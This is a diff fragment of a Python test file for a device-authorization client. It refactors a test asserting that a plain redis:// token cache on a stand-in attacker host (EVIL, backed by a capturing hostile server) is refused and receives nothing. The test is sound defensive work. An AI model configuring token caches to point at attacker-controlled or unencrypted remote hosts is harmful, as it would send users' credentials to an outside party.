@@ -1031,7 +1031,9 @@ def test_no_exception_in_the_whole_chain_holds_an_echoed_secret(error: str) -> N
     "so every token would travel to it in clear (on seams the URL even fails with ModuleNotFoundError)",
 )
 def test_a_plain_redis_store_on_a_remote_host_is_refused(capture: HostileServer) -> None:
+    def use() -> None:  # refused at construction (ValueError) or at first use (DeviceAuthError): either is fine
+        DeviceAuth(ISSUER, CLIENT_ID, cache=f"redis://{EVIL}:{capture.port}/0", interactive=False).get_token()
+
     with pytest.raises((ValueError, TypeError, DeviceAuthError)):
-        auth = DeviceAuth(ISSUER, CLIENT_ID, cache=f"redis://{EVIL}:{capture.port}/0", interactive=False)
-        auth.get_token()
+        use()
     assert capture.received == 0
